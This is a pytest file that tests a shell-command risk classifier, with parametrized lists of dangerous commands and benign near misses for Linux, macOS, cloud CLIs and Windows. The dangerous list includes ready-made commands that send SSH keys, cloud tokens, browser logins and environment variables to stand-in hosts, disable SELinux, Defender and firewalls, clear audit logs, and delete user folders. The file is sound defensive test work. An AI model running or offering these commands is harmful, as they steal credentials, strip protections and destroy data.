"""Round 3 of issue 11: network and firewall, data flowing out, untrusted installs, Windows.

Commands written for these tests (variants of the classes, not corpus lines). Each dangerous
case was rated below its level before round 3; each benign case is a near miss that must stay
at or below its level.
"""

from __future__ import annotations

import pytest

from tests.safety_table import CRITICAL, HIGH, MODERATE, SAFE
from tui.core.safety import RiskLevel, assess


def level(command: str) -> RiskLevel:
    return assess(command, preflight=False).level


@pytest.mark.parametrize(
    ("command", "expected"),
    [
        # protections switched off for good (round 8: SELinux off in its config is critical,
        # like `setenforce 0`)
        ("echo 'SELINUX=permissive' | sudo tee /etc/selinux/config", CRITICAL),
        ("sudo sed -i 's/SELINUX=enforcing/SELINUX=disabled/g' /etc/selinux/config", CRITICAL),
        # round 7: AppArmor guards the whole machine; switched off, that is critical
        ("sudo systemctl mask apparmor.service", CRITICAL),
        ("sudo systemctl stop fail2ban", HIGH),
        ("git config --system http.sslverify off", HIGH),
        ("pnpm config set strict-ssl false", HIGH),
        ("conda config --set ssl_verify false", HIGH),
        ("echo '--insecure' >> ~/.config/curlrc", HIGH),
        ("echo 'strict-ssl=false' >> ~/.npmrc", HIGH),
        ("printf '[global]\\ntrusted-host = pypi.corp.example\\n' > ~/.config/pip/pip.conf", HIGH),
        ("echo '198.51.100.20 registry.npmjs.org' | sudo tee -a /etc/hosts", HIGH),
        ("echo '8.8.8.8 login.mybank.com' >> /etc/hosts", HIGH),
        ("printf 'Host *\\n    StrictHostKeyChecking no\\n' > ~/.ssh/config", HIGH),
        ("defaults write /Library/Preferences/com.apple.alf globalstate -int 0", HIGH),
        ("/usr/libexec/ApplicationFirewall/socketfilterfw --setglobalstate off", HIGH),
        ("xhost + ", HIGH),
        ("sudo aa-teardown", CRITICAL),  # round 7: as above
        ("git config --global url.http://198.51.100.3/.insteadOf https://gitlab.com/", HIGH),
        ("git config --global https.proxy http://198.51.100.9:3128", HIGH),
        ("networksetup -setsecurewebproxy Ethernet 198.51.100.9 443", HIGH),
        ("sudo iptables -I INPUT -p tcp --dport 27017 -j ACCEPT", HIGH),
        ("sudo ufw allow 6379/tcp", HIGH),
        ("sudo firewall-cmd --add-port=9200/tcp", HIGH),
        ("sudo cp corp.crt /etc/pki/ca-trust/source/anchors/ && sudo update-ca-trust", HIGH),
        ("certutil -addstore root proxy.cer", HIGH),
        ("git config --global core.sshCommand 'ssh -o StrictHostKeyChecking=no'", HIGH),
        (
            "sudo launchctl bootout system /System/Library/LaunchDaemons/com.apple.alf.agent.plist",
            HIGH,
        ),
        ("echo '/home *(rw,no_root_squash)' | sudo tee -a /etc/exports", CRITICAL),
        (
            "printf '[all]\\npath = /\\nguest ok = yes\\n' | sudo tee -a /etc/samba/smb.conf",
            CRITICAL,
        ),
        ("sudo sed -i 's/^anonymous_enable=.*/anonymous_enable=YES/' /etc/vsftpd.conf", HIGH),
        ("sudo sed -i 's/^repo_gpgcheck=1/repo_gpgcheck=0/' /etc/dnf/dnf.conf", HIGH),
        ("sudo sed -i 's/^ENABLED=yes/ENABLED=no/' /etc/ufw/ufw.conf", HIGH),
        ("cat <<'EOF' > ~/.curlrc\ninsecure\nEOF", HIGH),
        ("sudo tee -a /etc/hosts <<EOF\n198.51.100.4 pypi.org\nEOF", HIGH),
        # servers open to the network without a password
        ("jupyter lab --ip='*' --ServerApp.token='' --ServerApp.password=''", CRITICAL),
        ("jupyter-notebook --NotebookApp.ip=0.0.0.0 --NotebookApp.token=", CRITICAL),
        ("redis-server /etc/redis/redis.conf --protected-mode no", HIGH),
        ("kubectl -n prod port-forward --address=0.0.0.0 deploy/api 8080:80", HIGH),
        ("kubectl proxy --address 0.0.0.0 --accept-hosts '.*'", CRITICAL),
        ("code-server --auth none --bind-addr 0.0.0.0:8443", CRITICAL),
        ("ttyd -W -p 7681 bash", CRITICAL),
        ("python3 -m http.server 9000 -d /", CRITICAL),
        ("cd /home && python3 -m http.server", CRITICAL),
        ("php -S 0.0.0.0:8080 -t /", CRITICAL),
        ("python3 -m pyftpdlib --write -d ~", CRITICAL),
        ("python3 -m pyftpdlib -w -p 2121", HIGH),
        ("npx http-server ~ -p 9000", CRITICAL),
        ("busybox httpd -p 8081 -h ~", CRITICAL),
        ("mysql -uroot -e \"CREATE USER 'admin'@'%' IDENTIFIED BY ''\"", CRITICAL),
        # data flowing out
        (
            "base64 -w 40 ~/.aws/credentials | "
            'while read c; do dig +short "$c.a.example.org"; done',
            CRITICAL,
        ),
        (
            "cd ~ && git init && git add . && git commit -m x && "
            "git push https://example.org/r.git HEAD",
            CRITICAL,
        ),
        ("git init ~ && git -C ~ add -A && git -C ~ push dump main", CRITICAL),
        ("git remote add mirror https://code.example.org/x/y.git && git push mirror --all", HIGH),
        ("mailx -s hi -a ~/.ssh/id_ed25519 someone@example.org < /dev/null", CRITICAL),
        ("az account get-access-token | curl -s -d @- https://203.0.113.9/t", CRITICAL),
        ('curl -s -d "t=$(gh auth token)" https://paste.example.net', CRITICAL),
        ("curl -T ~/.terraform.d/credentials.tfrc.json https://198.51.100.2/", CRITICAL),
        (
            "ruby -rnet/http -e 'Net::HTTP.post_form(URI(\"http://x.example/\"), ENV.to_h)'",
            CRITICAL,
        ),
        (
            "{ whoami; hostname; ip route; } | curl -s -X POST --data-binary @- http://x.example/c",
            HIGH,
        ),
        ("tar czf - ~/Desktop | nc 198.51.100.4 4444", HIGH),
        ("podman save web:1 | curl -T - https://files.example.net/w.tar", HIGH),
        ("tar czf /tmp/b.tgz ~/.gnupg && curl -T /tmp/b.tgz https://203.0.113.8/", CRITICAL),
        ("zip -qr /tmp/w.zip ~/Desktop; curl -F up=@/tmp/w.zip https://x.example/u", HIGH),
        ("cd /tmp && nc 203.0.113.5 9 < ~/.pgpass", CRITICAL),
        ('echo \'{"hosts": ["tcp://0.0.0.0:2375"]}\' | sudo tee /etc/docker/daemon.json', CRITICAL),
        ("echo 'host all all 0.0.0.0/0 trust' >> /etc/postgresql/15/main/pg_hba.conf", CRITICAL),
        ("echo 'export NODE_TLS_REJECT_UNAUTHORIZED=0' >> ~/.profile", HIGH),
        ("echo 'gpgcheck=0' | sudo tee -a /etc/dnf/dnf.conf", HIGH),
        ("mongod --bind_ip 0.0.0.0 --dbpath /data", HIGH),
        ("kubectl expose deploy cache --type=NodePort --port=6379", HIGH),
        ("az vm open-port -g rg -n vm1 --port 3389", HIGH),
        ('for k in ~/.ssh/id_*; do curl -s -F "k=@$k" https://203.0.113.7/; done', CRITICAL),
        ("cp ~/.kube/config /tmp/kc && curl -s -T /tmp/kc https://203.0.113.7/", CRITICAL),
        ("curl -s --data-binary @/etc/passwd https://203.0.113.7/", HIGH),
        # a database leaving this network is critical (round 7: data leaving)
        ("mysqldump shop | curl -s -T - https://203.0.113.7/s.sql", CRITICAL),
        ("wl-paste | nc 203.0.113.7 7000", HIGH),
        ('curl -fsSL https://get.example.net/i.sh | sh -s -- --key "$(cat ~/.npmrc)"', CRITICAL),
        # installs from unknown places
        ("conda install -c someone123 fastlib", HIGH),
        ("sudo dpkg -i ~/Downloads/helper_1.0_amd64.deb", HIGH),
        ("go install github.com/spf13x/cobra-cli@v1.3.0", HIGH),
        ("go install github.com/golangcl/golangci-lint/cmd/golangci-lint@latest", HIGH),
        ("npx -y eslnt .", HIGH),
        ("bunx create-nxet-app web", HIGH),
        ("brew install someone/extras/thing", HIGH),
        ("gem install --trust-policy=LowSecurity ./pkg.gem", HIGH),
        ("sudo wget -O /usr/local/bin/helm http://198.51.100.8/helm", HIGH),
        ("yarn global add typescirpt", HIGH),
        ("cargo install ripgerp", HIGH),
        ("npm init next-ap web", HIGH),
        ("yarn create vitee app", HIGH),
        ("docker run --rm -p 8080:80 ngnix:alpine", HIGH),
        ("podman pull debain:12", HIGH),
        ("kubectl apply -f http://203.0.113.6/operator.yaml", HIGH),
        ("helm repo add tools http://charts.example.net/", HIGH),
        # cloud storage made public
        ("gsutil iam ch allAuthenticatedUsers:objectViewer gs://reports", HIGH),
        ("gsutil defacl ch -u AllUsers:R gs://reports", HIGH),
        ("az storage container set-permission -n c --public-access container", HIGH),
        ("aws s3 sync ./site s3://www-bucket --acl public-read", HIGH),
        (
            "aws rds create-db-instance --db-instance-identifier d --engine postgres "
            "--publicly-accessible",
            HIGH,
        ),
        (
            "aws ec2 modify-image-attribute --image-id ami-1 --attribute launchPermission "
            "--operation-type add --user-groups all",
            HIGH,
        ),
        (
            "gcloud projects add-iam-policy-binding proj --member=allAuthenticatedUsers "
            "--role=roles/editor",
            HIGH,
        ),
        ("gcloud sql instances patch db --authorized-networks=10.0.0.0/8,0.0.0.0/0", HIGH),
        ("docker run -d -p 3306:3306 -e MARIADB_ALLOW_EMPTY_ROOT_PASSWORD=1 mariadb", HIGH),
        (
            "podman run -d -p 8888:8888 quay.io/jupyter/minimal-notebook start-notebook.py "
            "--IdentityProvider.token=''",
            CRITICAL,
        ),
        # Windows
        (
            'reg add "HKLM\\SOFTWARE\\Policies\\Microsoft\\Windows Defender\\Real-Time Protection"'
            " /v DisableRealtimeMonitoring /t REG_DWORD /d 1 /f",
            CRITICAL,
        ),
        ('for /f "delims=" %%x in (\'wevtutil el\') do wevtutil cl "%%x"', CRITICAL),
        (
            'Compress-Archive "$env:LOCALAPPDATA\\Google\\Chrome\\User Data" $env:TEMP\\c.zip; '
            "Invoke-WebRequest -Uri https://198.51.100.3/u -Method Post -InFile $env:TEMP\\c.zip",
            CRITICAL,
        ),
        ('net user Guest /active:yes & net user Guest ""', CRITICAL),
        (
            "gci env: | Out-String | Invoke-RestMethod -Method Put -Uri http://198.51.100.4/",
            CRITICAL,
        ),
        ('curl.exe -F "k=@%USERPROFILE%\\.ssh\\id_ed25519" https://198.51.100.4/u', CRITICAL),
        # Everyone may change the system drive over the network, as `chmod -R 777 /` lets anyone.
        ("net share all=C:\\ /grant:Everyone,FULL", CRITICAL),
        (
            "sc.exe config WinDefend start= disabled & Set-Service WinDefend -StartupType Disabled",
            CRITICAL,
        ),
        ("Remove-Item C:\\Windows\\System32\\winevt\\Logs\\Security.evtx -Force", CRITICAL),
        ("auditpol /set /category:* /success:disable /failure:disable", HIGH),
        (
            'Get-Content "$env:APPDATA\\Mozilla\\Firefox\\Profiles\\x\\logins.json" | '
            "Invoke-RestMethod -Uri http://198.51.100.2/ -Method Post",
            CRITICAL,
        ),
        (
            "New-NetFirewallRule -DisplayName rdp -Direction Inbound -LocalPort 3389 "
            "-Protocol TCP -Action Allow",
            HIGH,
        ),
        ('for /d %u in (C:\\Users\\*) do rd /s /q "%u"', CRITICAL),
    ],
)
def test_dangerous(command: str, expected: RiskLevel) -> None:
    assert level(command) == expected, assess(command, preflight=False).reasons


@pytest.mark.parametrize(
    ("command", "highest"),
    [
        # near misses of the settings above
        ("git config http.sslVerify false", MODERATE),
        ("git config --global http.sslVerify true", MODERATE),
        ("npm config set strict-ssl true", MODERATE),
        ("echo '--silent' >> ~/.curlrc", MODERATE),
        ("echo '127.0.0.1 api.myapp.local' | sudo tee -a /etc/hosts", MODERATE),
        ("echo '0.0.0.0 tracker.adsite.com' | sudo tee -a /etc/hosts", MODERATE),
        ("echo '192.168.1.20 nas.lan' | sudo tee -a /etc/hosts", MODERATE),
        ("printf 'Host build\\n  StrictHostKeyChecking no\\n' >> ~/.ssh/config", MODERATE),
        ("sudo systemctl restart apparmor", MODERATE),
        ("xhost +SI:localuser:root", MODERATE),
        ("defaults write com.apple.dock autohide -bool true", MODERATE),
        ("git config --global url.git@github.com:.insteadOf https://github.com/", MODERATE),
        ("git config --global http.proxy http://proxy.office.example:3128", MODERATE),
        ("npm config set https-proxy http://10.0.0.5:3128", MODERATE),
        ("networksetup -setdnsservers Wi-Fi 9.9.9.9", MODERATE),
        ("sudo ufw allow from 10.1.0.0/16 to any port 6379", MODERATE),
        ("sudo iptables -A INPUT -p tcp --dport 443 -j ACCEPT", MODERATE),
        ("echo '/srv/nfs 10.0.0.0/8(rw,sync)' | sudo tee -a /etc/exports", MODERATE),
        ("sudo sed -i 's/^ENABLED=no/ENABLED=yes/' /etc/ufw/ufw.conf", MODERATE),
        ("sudo sed -i 's/SELINUX=permissive/SELINUX=enforcing/' /etc/selinux/config", MODERATE),
        ("sudo sed -i 's/^anonymous_enable=.*/anonymous_enable=NO/' /etc/vsftpd.conf", HIGH),
        ("cat <<'EOF' > notes.txt\ninsecure\nEOF", MODERATE),
        # servers kept local or behind a password
        ("jupyter lab --no-browser", MODERATE),
        ("jupyter notebook --ip=0.0.0.0 --no-browser", MODERATE),
        ("redis-server --port 6380", MODERATE),
        ("kubectl port-forward svc/api 8080:80", MODERATE),
        ("python3 -m http.server 8000", MODERATE),
        ("php -S localhost:8000 -t public", MODERATE),
        ("python3 -m pyftpdlib -p 2121 -d ./share", MODERATE),
        ("npx http-server ./dist -p 8080", MODERATE),
        ("python3 -m http.server --bind 127.0.0.1 --directory ./site", MODERATE),
        ("mysql -e \"CREATE USER 'app'@'%' IDENTIFIED BY 'Long-Pass-1'\"", MODERATE),
        # flows that are routine
        ('cat urls.txt | while read u; do nslookup "$u"; done', SAFE),
        (
            "cd ~/src/site && git init && git add . && git commit -m init && "
            "git push -u origin main",
            MODERATE,
        ),
        ("mail -s report -A summary.pdf team@example.org < body.txt", MODERATE),
        ("git push origin --all", MODERATE),
        ("git remote add upstream https://github.com/o/r.git && git fetch upstream", MODERATE),
        ("ssh -i ~/.ssh/deploy_key deploy@203.0.113.10", MODERATE),
        (
            'curl -H "Authorization: Bearer $(gcloud auth print-access-token)" '
            "https://storage.googleapis.com/storage/v1/b/mybucket/o",
            MODERATE,
        ),
        (
            "aws ecr get-login-password | docker login --username AWS --password-stdin 1.dkr.ecr.x",
            MODERATE,
        ),
        ("tar czf - ~/Pictures | ssh me@nas 'cat > pictures.tgz'", MODERATE),
        ("uname -a | tee sysinfo.txt", MODERATE),
        ("ps aux | curl -s --data-binary @- http://localhost:9091/metrics/job/ps", MODERATE),
        ("docker save app:1 | gzip > app.tgz", MODERATE),
        ("perl -e 'print \"$ENV{HOME}\\n\"'", MODERATE),
        ("tar czf site.tgz ./public && curl -T site.tgz https://deploy.example/", MODERATE),
        ("tar czf docs.tgz ~/Documents && scp docs.tgz me@nas:backups/", MODERATE),
        ("make && echo built > /dev/null", MODERATE),
        (
            "echo 'host all all 10.0.0.0/8 scram-sha-256' >> /etc/postgresql/15/main/pg_hba.conf",
            MODERATE,
        ),
        ("gcloud compute firewall-rules create ssh --allow=tcp:22", MODERATE),
        ("kubectl expose deploy web --type=LoadBalancer --port=443", MODERATE),
        ('for f in ~/.ssh/*.pub; do cat "$f"; done', SAFE),
        ("pg_dump shop | ssh backup@db2 'cat > shop.sql'", MODERATE),
        ("pbpaste | wc -c", SAFE),
        ("curl -T report.pdf https://files.example.org/", MODERATE),
        # installs from the usual places
        ("conda install -c conda-forge polars", MODERATE),
        ("sudo apt install ./vendor-tool_2.1_amd64.deb", MODERATE),
        ("go install github.com/spf13/cobra-cli@latest", MODERATE),
        ("npx create-next-app@latest web", MODERATE),
        ("brew tap hashicorp/tap && brew install hashicorp/tap/terraform", MODERATE),
        ("gem install --trust-policy HighSecurity rails", MODERATE),
        (
            "sudo curl -L https://github.com/o/r/releases/download/v1/tool -o /usr/local/bin/tool",
            MODERATE,
        ),
        ("gsutil iam ch user:ann@example.com:objectViewer gs://reports", MODERATE),
        ("npm init vite@latest web", MODERATE),
        ("npm config set registry https://registry.npmjs.org/", MODERATE),
        ("pip config set global.index-url https://pypi.org/simple", MODERATE),
        ("aws s3 sync ./site s3://www-bucket", MODERATE),
        (
            "aws rds modify-db-instance --db-instance-identifier d --no-publicly-accessible",
            MODERATE,
        ),
        (
            "gcloud functions add-iam-policy-binding f --member=allUsers "
            "--role=roles/cloudfunctions.invoker",
            MODERATE,
        ),
        (
            "docker run -d -p 127.0.0.1:3306:3306 -e MYSQL_ALLOW_EMPTY_PASSWORD=yes mysql:8",
            MODERATE,
        ),
        ("docker run -d -p 5432:5432 -e POSTGRES_PASSWORD=long-secret postgres:16", MODERATE),
        ("docker run --rm -p 8080:80 nginx:alpine", MODERATE),
        ("docker run myteam/ngnix", MODERATE),
        ("kubectl apply -f https://raw.githubusercontent.com/org/repo/main/deploy.yaml", MODERATE),
        ("helm repo add bitnami https://charts.bitnami.com/bitnami", MODERATE),
        (
            "gcloud run services add-iam-policy-binding web --member=allUsers "
            "--role=roles/run.invoker",
            MODERATE,
        ),
        ("for /L %n in (1,1,3) do echo %n", SAFE),
        ("auditpol /get /category:*", MODERATE),
        ("net share proj=D:\\work\\proj /grant:alice,read", MODERATE),
        (
            "New-NetFirewallRule -DisplayName web -Direction Inbound -LocalPort 8080 "
            "-Protocol TCP -Action Allow",
            MODERATE,
        ),
        # look-ups that change nothing
        ("ssh admin@db1 'uptime; free -m'", SAFE),
        ("wget --spider -q https://example.org/file.tar.gz", SAFE),
        ("openssl x509 -in server.crt -noout -subject -dates", SAFE),
        ("openssl s_client -connect mail.example.org:993 -brief </dev/null", SAFE),
        ("security find-internet-password -s github.com", SAFE),
        ("security find-generic-password -s wifi -w", MODERATE),
        ("npm audit --json", SAFE),
        ("npm audit fix", MODERATE),
        (
            'python3 -c "import urllib.request as u; '
            "print(u.urlopen('https://example.org').status)\"",
            SAFE,
        ),
    ],
)
def test_benign(command: str, highest: RiskLevel) -> None:
    assert level(command) <= highest, assess(command, preflight=False).reasons
